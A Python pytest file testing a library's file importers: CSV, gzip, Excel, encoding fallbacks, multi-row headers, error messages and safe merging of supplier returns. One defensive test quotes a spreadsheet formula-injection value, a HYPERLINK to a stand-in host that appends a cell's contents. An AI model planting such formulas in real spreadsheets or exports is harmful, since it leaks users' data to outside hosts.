"""Reading sources (CSV, gzip, Excel, encodings, multi-row headers) and writing imports."""

from __future__ import annotations

import datetime as dt
import gzip
import json

import openpyxl
import pandas as pd
import pytest

from siamlib import io, paths
from siamlib.importers.eventlog import eventlog_to_model, import_eventlog
from siamlib.importers.files import read_source, write_import
from siamlib.importers.mapping import EventLogMapping, FileFormat
from siamlib.importers.result import ImporterError
from siamlib.importers.returns import import_returns, template_path
from tests.fixtures.fixture_params import FIXTURE_BPI_MAPPING

FIXTURES = paths.ROOT / "tests" / "unit" / "fixtures" / "importers"
CP1252 = FIXTURES / "eventlog_cp1252.csv"


def ts(text: str) -> pd.Timestamp:
    return pd.Timestamp(text, tz="UTC")


# ------------------------------------------------------------------ empty / broken --------
def test_empty_file_is_a_clear_error(tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(ImporterError, match=r"empty.csv: the file is empty \(0 bytes\)"):
        read_source(tmp_path / "empty.csv")


def test_blank_lines_only_is_a_clear_error(tmp_path):
    (tmp_path / "blank.csv").write_text("\n\n")
    with pytest.raises(ImporterError, match="the file is empty"):
        read_source(tmp_path / "blank.csv")


def test_header_without_data_rows_is_a_clear_error(tmp_path):
    (tmp_path / "head.csv").write_text("number,incident_state\n")
    with pytest.raises(ImporterError, match=r"no data rows \(only 1 header row"):
        read_source(tmp_path / "head.csv")


def test_missing_file_is_a_clear_error(tmp_path):
    with pytest.raises(ImporterError, match="file not found"):
        read_source(tmp_path / "nope.csv")


def test_data_under_a_blank_header_cell_is_an_error(tmp_path):
    (tmp_path / "x.csv").write_text("a,,c\n1,2,3\n")
    with pytest.raises(ImporterError, match=r"column\(s\) \[2\] hold data but have no header"):
        read_source(tmp_path / "x.csv")


# ------------------------------------------------------------------ encodings -------------
def test_non_utf8_csv_falls_back_to_cp1252_and_says_so(tmp_path):
    src = read_source(CP1252)
    assert src.encoding == "cp1252"
    assert src.frame["Case"].tolist() == ["T\u20ac1", "T\u20ac1"]  # the euro sign survives
    m = EventLogMapping.model_validate(
        {
            "name": "cp",
            "columns": {"case_id": "Case", "timestamp": "When", "status": "State", "team": "Team"},
            "status_map": {"Open": "in_progress", "Done": "resolved"},
            "supplier_rules": [{"equals": "\u00c9quipe R\u00e9seau", "supplier_id": "network"}],
            "default_priority": 3,
            "default_service": "wan",
        }
    )
    path = tmp_path / "cp1252_mapping.yaml"  # JSON is valid YAML
    path.write_text(json.dumps(m.model_dump(mode="json")), encoding="utf-8")
    r = import_eventlog(CP1252, path)
    assert r.summary.rows_rejected == 0
    assert r.tables["tickets"]["supplier_id"].tolist() == ["network"]
    assert any("read as cp1252" in n for n in r.summary.notes)


def test_non_utf8_csv_without_fallback_is_a_clear_error():
    # "Case,When,State,Team\n" is 21 bytes (offsets 0-20), "T" is 21, the cp1252 euro 0x80 is 22.
    with pytest.raises(ImporterError, match=r"not valid utf-8 text \(byte 22: invalid start"):
        read_source(CP1252, FileFormat(fallback_encoding=None))


def test_bytes_invalid_in_both_encodings_are_a_clear_error(tmp_path):
    # 0x81 is undefined in cp1252 and not a valid UTF-8 start byte.
    (tmp_path / "bad.csv").write_bytes(b"a,b\n\x81,2\n")
    with pytest.raises(ImporterError, match="not valid utf-8 or cp1252 text"):
        read_source(tmp_path / "bad.csv")


def test_utf8_bom_is_not_part_of_the_first_column_name(tmp_path):
    (tmp_path / "bom.csv").write_bytes("\ufeffnumber,x\nINC1,1\n".encode())
    assert list(read_source(tmp_path / "bom.csv").frame.columns) == ["number", "x"]


def test_gzip_csv_is_read_by_suffix(tmp_path):
    with gzip.open(tmp_path / "x.csv.gz", "wt", encoding="utf-8") as fh:
        fh.write("a;b\n1;?\n")
    src = read_source(tmp_path / "x.csv.gz", FileFormat(delimiter=";"))
    assert src.frame.to_dict("records") == [{"a": "1", "b": "?"}]


# ------------------------------------------------------------------ multi-row headers -----
def test_csv_two_row_header_repeats_upper_cells_to_the_right(tmp_path):
    (tmp_path / "h.csv").write_text("Incident,,Updated\nNumber,State,\nINC1,New,2026-01-05\n")
    src = read_source(tmp_path / "h.csv", FileFormat(header_rows=2))
    assert list(src.frame.columns) == ["Incident Number", "Incident State", "Updated"]
    assert src.first_row == 3


def _two_row_header_workbook(path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Export"
    ws.append(["Incident", None, "Updated", "Assignment", None])
    ws.append(["Number", "State", None, "Group", "Level"])
    ws.merge_cells("A1:B1")
    ws.merge_cells("C1:C2")
    ws.merge_cells("D1:E1")
    ws.append(["INC1", "New", dt.datetime(2026, 3, 2, 9, 0), "Group 70", 1])
    ws.append(["INC1", "Active", dt.datetime(2026, 3, 2, 9, 30), "Group 25", 2.0])
    ws.append(["INC1", "Resolved", "2/3/2026 11:00", "Group 25", 2])
    ws.append([None, None, None, None, None])  # formatting left-over
    wb.save(path)


def test_excel_two_row_header_joins_merged_cells(tmp_path):
    _two_row_header_workbook(tmp_path / "x.xlsx")
    src = read_source(tmp_path / "x.xlsx", FileFormat(header_rows=2))
    assert list(src.frame.columns) == [
        "Incident Number",
        "Incident State",
        "Updated",
        "Assignment Group",
        "Assignment Level",
    ]
    assert len(src.frame) == 3  # trailing empty row dropped
    assert src.frame["Updated"].tolist()[:2] == ["2026-03-02 09:00:00", "2026-03-02 09:30:00"]
    assert src.frame["Assignment Level"].tolist() == ["1", "2", "2"]
    assert src.encoding is None


def test_excel_two_row_header_imports_with_date_cells_and_text_dates(tmp_path):
    _two_row_header_workbook(tmp_path / "x.xlsx")
    m = EventLogMapping.model_validate(
        {
            "name": "xl",
            "format": {"header_rows": 2, "sheet": "Export"},
            "columns": {
                "case_id": "Incident Number",
                "timestamp": "Updated",
                "status": "Incident State",
                "team": "Assignment Group",
                "support_level": "Assignment Level",
            },
            "timestamps": {"format": "%d/%m/%Y %H:%M", "timezone": "Europe/London"},
            "status_map": {"New": "new", "Active": "in_progress", "Resolved": "resolved"},
            "supplier_rules": [
                {"equals": "Group 70", "supplier_id": "service-desk"},
                {"equals": "Group 25", "supplier_id": "applications"},
            ],
            "default_priority": 3,
            "default_service": "from_supplier",
        }
    )
    src = read_source(tmp_path / "x.xlsx", m.format)
    r = eventlog_to_model(src.frame, m, first_row=src.first_row)
    ev = r.tables["ticket_events"]
    # Excel date cells (ISO) and the text date 2/3/2026 11:00 (day-first) are both read;
    # March 2026 before the 29th is GMT, so UTC = local.
    assert ev["event_at"].tolist() == [
        ts("2026-03-02 09:00"),
        ts("2026-03-02 09:30"),
        ts("2026-03-02 11:00"),
    ]
    assert ev["support_level"].tolist() == [1, 2, 2]
    assert r.tables["tickets"]["supplier_id"].tolist() == ["applications"]


def test_unknown_excel_sheet_is_a_clear_error(tmp_path):
    _two_row_header_workbook(tmp_path / "x.xlsx")
    with pytest.raises(ImporterError, match=r"no sheet 'Data' \(sheets: Export\)"):
        read_source(tmp_path / "x.xlsx", FileFormat(sheet="Data"))


def test_not_a_workbook_is_a_clear_error(tmp_path):
    (tmp_path / "fake.xlsx").write_text("not a zip")
    with pytest.raises(ImporterError, match="not a readable Excel workbook"):
        read_source(tmp_path / "fake.xlsx")


def test_utf16_file_is_named_as_utf16_not_as_missing_columns():
    with pytest.raises(ImporterError, match="surveys_utf16.csv: file is UTF-16; save it as UTF-8"):
        read_source(FIXTURES / "surveys_utf16.csv")


def test_utf16_without_byte_order_mark_is_named_as_utf16(tmp_path):
    (tmp_path / "x.csv").write_bytes("a,b\n1,2\n".encode("utf-16-le"))
    with pytest.raises(ImporterError, match="file is UTF-16"):
        read_source(tmp_path / "x.csv")


def test_a_mapping_that_says_utf16_reads_the_file():
    src = read_source(FIXTURES / "surveys_utf16.csv", FileFormat(encoding="utf-16"))
    assert src.frame.loc[0, "response_id"] == "EUC-2026-09-001"


def test_semicolon_file_read_as_comma_names_the_delimiter():
    with pytest.raises(ImporterError, match="file uses ';' as delimiter, not ','"):
        read_source(FIXTURES / "surveys_semicolon.csv")


def test_gzip_with_utf8_byte_order_mark_still_reads(tmp_path):
    (tmp_path / "x.csv.gz").write_bytes(gzip.compress("\ufeffCase,When\nA,1\n".encode()))
    assert read_source(tmp_path / "x.csv.gz").frame.columns.tolist() == ["Case", "When"]


def test_truncated_gzip_is_a_clear_error(tmp_path):
    whole = gzip.compress(("Case,When\n" + "A,2026-01-05 10:00\n" * 500).encode())
    (tmp_path / "x.csv.gz").write_bytes(whole[: len(whole) // 2])
    with pytest.raises(ImporterError, match="is it complete and not corrupted"):
        read_source(tmp_path / "x.csv.gz")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"PK\x03\x04" + b"\x01" * 40, "is a zip file"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x01\x02", "holds binary data"),
    ],
)
def test_binary_files_under_a_csv_name_are_named_as_not_csv(tmp_path, content, message):
    (tmp_path / "x.csv").write_bytes(content)
    with pytest.raises(ImporterError, match=message):
        read_source(tmp_path / "x.csv")


# ------------------------------------------------------------------ writing ---------------
def test_a_return_added_to_a_ticket_log_keeps_the_logs_window(tmp_path):
    bpi = import_eventlog(
        FIXTURES / "bpi2013_volvo_small.csv",
        FIXTURE_BPI_MAPPING,
    )
    out = tmp_path / "ds"
    written = write_import(bpi, out, name="volvo-demo")
    assert written["rejects"].name == "rejects.csv"
    summary = json.loads((out / "import_summary.json").read_text())
    assert summary["rows_read"] == 20 and summary["rows_rejected"] == 3
    rejects = pd.read_csv(out / "rejects.csv", dtype="str")
    assert rejects["reason"].tolist() == bpi.rejects["reason"].tolist()

    surveys = import_returns(template_path("surveys"), "surveys")
    written = write_import(surveys, out)
    assert written["rejects"].name == "rejects_surveys.csv"
    info = io.read_dataset_info(out)
    # The surveys (September 2026) do not speak for tickets: widening the log's window to
    # them would declare 14 years without tickets complete. The log's span stands, and so
    # does what wrote it.
    assert info.window == (ts("2012-05-11 11:00"), ts("2012-08-09 14:00:01"))
    assert info.generator["importer"] == "eventlog"
    assert info.name == "volvo-demo"
    tables = io.read_dataset(out)
    assert (len(tables["tickets"]), len(tables["surveys"])) == (4, 2)
    assert (out / "rejects.csv").exists() and (out / "import_summary_surveys.json").exists()


def _surveys(name):
    return import_returns(FIXTURES / name, "surveys")


def test_a_return_merges_replacing_only_its_suppliers_periods(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_base.csv"), out)
    again = _surveys("surveys_euc_2026-09_resubmitted.csv")
    write_import(again, out)
    kept = io.read_table(out, "surveys").sort_values("response_id")
    assert kept["response_id"].tolist() == ["EUC-2026-08-001", "EUC-2026-09-101", "NET-2026-09-001"]
    summary = json.loads((out / "import_summary_surveys.json").read_text())
    assert summary["replaced"] == [
        {"table": "surveys", "supplier_id": "euc", "periods": ["2026-09"],
         "rows_removed": 2, "rows_added": 1}
    ]  # fmt: skip
    assert (
        "replaced surveys of euc for 2026-09: 2 row(s) removed, 1 added" in again.summary.to_text()
    )


def _return_file(tmp_path, text):
    (tmp_path / "return.csv").write_text(text, encoding="utf-8")
    return tmp_path / "return.csv"


SURVEYS_HEADER = "response_id,supplier_id,period,survey_type,respondent,score\n"


def test_a_return_never_changes_another_suppliers_rows(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_base.csv"), out)
    before = io.read_table(out, "surveys")
    # Network's return reuses the id of one of euc's September responses.
    network = import_returns(
        _return_file(
            tmp_path,
            SURVEYS_HEADER + "EUC-2026-09-001,network,2026-09,satisfaction,customer,1\n"
            "NET-2026-09-002,network,2026-09,satisfaction,customer,4\n",
        ),
        "surveys",
        supplier_id="network",
    )
    write_import(network, out)
    after = io.read_table(out, "surveys")

    def euc(t):
        return t[t["supplier_id"] == "euc"].reset_index(drop=True)

    pd.testing.assert_frame_equal(euc(after), euc(before))
    # Network's rejected September row may have been meant as NET-2026-09-001: it is kept.
    assert sorted(after["response_id"]) == [
        "EUC-2026-08-001", "EUC-2026-09-001", "EUC-2026-09-002", "NET-2026-09-001",
        "NET-2026-09-002",
    ]  # fmt: skip
    rejects = pd.read_csv(out / "rejects_surveys.csv", dtype="str")
    assert rejects[["source_row", "reason", "supplier_id"]].values.tolist() == [
        ["2", "response_id: EUC-2026-09-001 already in the dataset for supplier 'euc' (2026-09)",
         "network"]
    ]  # fmt: skip
    summary = json.loads((out / "import_summary_surveys.json").read_text())
    assert (summary["rows_used"], summary["rows_rejected"]) == (1, 1)
    assert summary["rejected_by_reason"] == {
        "response_id: already in the dataset for supplier 'euc'": 1
    }
    assert summary["replaced"] == [
        {"table": "surveys", "supplier_id": "network", "periods": ["2026-09"],
         "rows_removed": 0, "rows_added": 1, "rows_kept": 1}
    ]  # fmt: skip


def test_a_return_whose_every_row_takes_another_suppliers_id_changes_no_table(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_base.csv"), out)
    before = {name: (out / name).read_bytes() for name in ("surveys.parquet", "dataset.json")}
    hosting = import_returns(
        _return_file(
            tmp_path,
            SURVEYS_HEADER + "NET-2026-09-001,hosting,2026-10,satisfaction,customer,1\n"
            "EUC-2026-08-001,hosting,2026-10,satisfaction,customer,1\n",
        ),
        "surveys",
        supplier_id="hosting",
    )
    assert sorted(write_import(hosting, out)) == ["rejects", "summary"]
    assert {p: (out / p).read_bytes() for p in before} == before
    assert hosting.window is None
    summary = json.loads((out / "import_summary_surveys.json").read_text())
    assert (summary["rows_used"], summary["rows_rejected"], summary["replaced"]) == (0, 2, [])
    assert "rows used             0" in hosting.summary.to_text()


def test_an_improvement_return_never_removes_another_suppliers_entry(tmp_path):
    out = tmp_path / "ds"
    header = "improvement_id,supplier_id,title,raised_at,status\n"
    base = _return_file(
        tmp_path,
        header + "CSI0001,integrator,Runbooks,2026-09-01,proposed\n"
        "CSI0002,integrator,Major incident reviews,2026-10-03,proposed\n",
    )
    write_import(import_returns(base, "improvements"), out)
    before = io.read_table(out, "improvements")
    hosting = import_returns(
        _return_file(
            tmp_path,
            header + "CSI0002,hosting,Backup checks,2026-10-07,proposed\n"
            "HOST-001,hosting,Patch windows,2026-10-09,proposed\n",
        ),
        "improvements",
        supplier_id="hosting",
    )
    write_import(hosting, out)
    after = io.read_table(out, "improvements")
    integrator = after[after["supplier_id"] == "integrator"].reset_index(drop=True)
    pd.testing.assert_frame_equal(integrator, before)
    assert after["improvement_id"].tolist() == ["CSI0001", "CSI0002", "HOST-001"]
    rejects = pd.read_csv(out / "rejects_improvements.csv", dtype="str")
    assert rejects["reason"].tolist() == [
        "improvement_id: CSI0002 already in the dataset for supplier 'integrator' (2026-10)"
    ]
    assert [(r["supplier_id"], r["rows_removed"]) for r in hosting.summary.replaced] == [
        ("hosting", 0)
    ]


def test_an_event_log_into_a_folder_with_a_dataset_is_refused_and_changes_nothing(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_base.csv"), out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    bpi = import_eventlog(
        FIXTURES / "bpi2013_volvo_small.csv",
        FIXTURE_BPI_MAPPING,
    )
    with pytest.raises(ImporterError, match="already holds a dataset; pass --replace"):
        write_import(bpi, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_replace_swaps_in_a_folder_holding_only_the_new_import(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_base.csv"), out)
    bpi = import_eventlog(
        FIXTURES / "bpi2013_volvo_small.csv",
        FIXTURE_BPI_MAPPING,
    )
    write_import(bpi, out, replace=True)
    assert sorted(p.name for p in out.iterdir()) == [
        "dataset.json", "import_summary.json", "rejects.csv", "ticket_events.parquet",
        "tickets.parquet",
    ]  # fmt: skip
    # The BPI log's own span: 2012-05-11T13:00+02:00 to 2012-08-09T16:00+02:00, end exclusive.
    assert io.read_dataset_info(out).window == (ts("2012-05-11 11:00"), ts("2012-08-09 14:00:01"))
    assert [p.name for p in tmp_path.iterdir()] == ["ds"]


def test_rejects_file_neutralises_spreadsheet_formulas(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_formula_injection.csv"), out)
    rejects = pd.read_csv(out / "rejects_surveys.csv", dtype="str", keep_default_na=False)
    assert rejects["response_id"].tolist() == [
        '\'=HYPERLINK("http://x.example/?"&A1)',
        "EUC-2026-09-002",
    ]
    assert rejects["score"].tolist() == ["'@SUM(A1)", "'-2"]


def test_a_return_merges_into_a_table_even_without_dataset_json(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_base.csv"), out)
    (out / "dataset.json").unlink()
    write_import(_surveys("surveys_euc_2026-09_resubmitted.csv"), out)
    assert len(io.read_table(out, "surveys")) == 3  # 4 - 2 euc Sept + 1 resubmitted


def test_a_broken_table_to_merge_into_stops_the_import_and_is_kept(tmp_path):
    out = tmp_path / "ds"
    write_import(_surveys("surveys_base.csv"), out)
    (out / "surveys.parquet").write_bytes(b"not parquet")
    with pytest.raises(ImporterError, match=r"surveys.parquet: cannot be read .* another --out"):
        write_import(_surveys("surveys_euc_2026-09_resubmitted.csv"), out)
    assert (out / "surveys.parquet").read_bytes() == b"not parquet"


def test_gzip_without_gz_in_its_name_reads(tmp_path):
    (tmp_path / "x.csv").write_bytes(gzip.compress(b"Case,When\nA,1\n"))
    assert read_source(tmp_path / "x.csv").frame.to_dict("records") == [{"Case": "A", "When": "1"}]


def test_blank_lines_are_skipped_but_keep_the_row_numbers_a_spreadsheet_shows(tmp_path):
    # Line 1 blank, header on line 2, data on lines 3, 5 and 7; lines 4 and 6 blank or commas.
    (tmp_path / "b.csv").write_text("\nCase,When\nA,1\n\nB,2\n,\nC,3\n\n", encoding="utf-8")
    src = read_source(tmp_path / "b.csv")
    assert src.frame["Case"].tolist() == ["A", "B", "C"]
    assert (src.frame.index + src.first_row).tolist() == [3, 5, 7]
    assert src.blank_rows == 2
